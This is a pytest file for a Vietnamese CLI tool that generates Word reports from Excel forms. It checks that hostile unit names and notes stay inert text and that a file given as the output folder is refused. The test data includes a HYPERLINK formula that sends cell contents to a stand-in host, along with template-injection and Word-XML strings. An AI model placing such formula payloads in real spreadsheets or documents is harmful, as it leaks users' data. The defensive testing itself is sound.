"""Hostile input to `kehoach report`: unit names and a unit's Ghi chú that look like
formulas, template code or Word XML stay text in the report (a note's line breaks and tabs
folded to spaces); an output folder that is a file is refused with nothing written."""

from __future__ import annotations

from pathlib import Path

from builders import fill_form, small_plan, write_plan
from click.testing import CliRunner
from docx import Document

from kehoach.cli import main

NAMES = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "{{ 7*7 }}", "<w:t>x</w:t>",
         "{% for x in y %}"]


def _run(*args: object) -> tuple[int, str]:
    result = CliRunner().invoke(main, [str(a) for a in args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def _texts(docx: Path) -> list[str]:
    document = Document(str(docx))
    body = [p.text for p in document.paragraphs]
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return body + cells + [c.text for c in document.comments]


def test_user_text_stays_text_in_the_report(tmp_path):
    data = small_plan()
    data["danh_sach_don_vi"] = "don_vi.yaml"
    units = "".join(f"  - {{id: dv-{i}, loai: xa, ten: '{name}'}}\n"
                    for i, name in enumerate(NAMES))
    (tmp_path / "don_vi.yaml").write_text(
        f"cap: xa\ncap_tren: ĐẢNG BỘ HUYỆN PHỤNG HIỆP\ndon_vi:\n{units}", encoding="utf-8")
    plan = write_plan(tmp_path / "huyen.yaml", data)
    assert _run("forms", plan, "-o", tmp_path / "bieu")[0] == 0
    blank = tmp_path / "bieu" / "huyen_bieu_chi_tieu.xlsx"
    forms = [fill_form(blank, tmp_path / "a.xlsx", NAMES[0], {"ct-bhyt": 97}),
             fill_form(blank, tmp_path / "b.xlsx", NAMES[1], {"ct-bhyt": 90})]
    code, output = _run("report", plan, *forms, "-o", tmp_path / "bc")
    assert code == 0, output
    texts = _texts(tmp_path / "bc" / "huyen_bao_cao.docx")
    joined = "\n".join(texts)
    assert f"; chưa báo cáo: {NAMES[2]}, {NAMES[3]}." in joined
    assert f"; chưa đạt: {NAMES[1]} (90%)." in joined
    assert "49" not in joined.replace("2024", "")  # {{ 7*7 }} was never computed


def test_a_units_note_is_shown_as_typed(tmp_path):
    data = small_plan()
    data |= {"don_vi": "hoa-an"}
    plan = write_plan(tmp_path / "xa.yaml", data)
    assert _run("forms", plan, "-o", tmp_path / "bieu")[0] == 0
    note = "{{ 7*7 }} <w:p/>\t=SUM(A1)\nxong"
    form = fill_form(tmp_path / "bieu" / "xa_bieu_chi_tieu.xlsx", tmp_path / "xa.xlsx", None,
                     {"ct-bhyt": 97}, remarks={"ct-bhyt": note})
    code, output = _run("report", plan, form, "-o", tmp_path / "bc")
    assert code == 0, output
    texts = _texts(tmp_path / "bc" / "xa_bao_cao.docx")
    assert "{{ 7*7 }} <w:p/> =SUM(A1) xong" in texts  # the phụ lục's Ghi chú cell, one line
    assert any(t.endswith("Ghi chú của đơn vị: {{ 7*7 }} <w:p/> =SUM(A1) xong.")
               for t in texts)


def test_an_output_folder_that_is_a_file_is_refused(tmp_path):
    data = small_plan()
    data |= {"don_vi": "hoa-an"}
    plan = write_plan(tmp_path / "xa.yaml", data)
    assert _run("forms", plan, "-o", tmp_path / "bieu")[0] == 0
    form = fill_form(tmp_path / "bieu" / "xa_bieu_chi_tieu.xlsx", tmp_path / "xa.xlsx", None,
                     {"ct-bhyt": 97})
    taken = tmp_path / "la_tep"
    taken.write_text("giữ nguyên", encoding="utf-8")
    code, output = _run("report", plan, form, "-o", taken)
    assert code == 2 and "la_tep" in output, output
    assert taken.read_text(encoding="utf-8") == "giữ nguyên"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bieu", "la_tep", "xa.xlsx", "xa.yaml"]
